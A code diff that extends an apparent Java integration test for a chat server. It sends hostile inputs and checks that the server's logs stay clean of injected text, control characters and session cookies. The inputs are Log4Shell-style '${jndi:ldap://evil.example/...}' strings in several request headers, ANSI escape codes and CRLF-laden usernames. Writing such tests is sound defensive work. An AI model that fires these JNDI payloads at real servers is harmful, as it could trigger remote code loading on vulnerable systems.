@@ -37,6 +37,7 @@ class HostilePageIT {
         "200, GET, api/me",
         "200, GET, api/rooms",
         "200, GET, health/live",
+        "404, GET, login",
         "404, GET, health/nothing",
         "404, GET, nothing",
         "404, GET, api/nothing",
@@ -134,6 +135,32 @@ class HostilePageIT {
         }
         RawSocket.handshake(server, "/chat/x|" + mark, "Cookie", "parley-guest=" + secret + "\u0001\"")
                 .close();
+        String jndi = "${jndi:ldap://evil.example/" + mark + "}\u001B[31m";
+        RawSocket.handshake(
+                        server,
+                        "/chat/LOBBY" + mark,
+                        "User-Agent",
+                        jndi,
+                        "Referer",
+                        jndi,
+                        "X-Forwarded-For",
+                        jndi,
+                        "X-Request-Id",
+                        jndi,
+                        "Sec-WebSocket-Protocol",
+                        mark)
+                .close();
+        HostileRoom.get(
+                server,
+                "api/me?name=%1B%5B31m" + mark,
+                "User-Agent",
+                "${jndi:ldap://" + mark + "}",
+                "Parley-Base",
+                mark);
+        var eve = new Browser(server);
+        eve.register("${jndi:x}\r\n" + mark, "password " + mark);
+        eve.register("Eve " + mark.substring(0, 8), "password " + mark);
+        eve.login("\u001b[31m" + mark, "wrong " + mark);
         RawSocket.request(server, "GET /\u001B[31m" + mark + " HTTP/9.9\r\n\r\n")
                 .close();
         RawSocket.request(
@@ -166,6 +193,8 @@ class HostilePageIT {
         assertThat(output).contains("refused the origin https://" + mark + "\\u0024{jndi");
         assertThat(output.lines().filter(line -> CONTROL.matcher(line).find())).isEmpty();
         assertThat(output).doesNotContain("${jndi", text, secret + ".", "x".repeat(300));
+        assertThat(eve.cookie()).startsWith("parley-session=");
+        assertThat(output).doesNotContain(eve.cookie().substring("parley-session=".length()));
         assertThat(Arrays.stream(output.split("\n", -1)).filter(line -> line.contains(mark)))
                 .isNotEmpty()
                 .allSatisfy(line -> assertThat(line).contains("refused the origin"));
@@ -184,6 +213,8 @@ class HostilePageIT {
                                 "frame-ancestors 'none'")
                         .doesNotContain("unsafe", "*"));
         assertThat(answer.headers().allValues("X-Content-Type-Options")).containsExactly("nosniff");
-        assertThat(answer.headers().firstValue("Referrer-Policy")).isPresent();
+        assertThat(answer.headers().allValues("Referrer-Policy")).containsExactly("no-referrer");
+        assertThat(answer.headers().allValues("Permissions-Policy"))
+                .containsExactly("camera=(), microphone=(), geolocation=()");
     }
 }
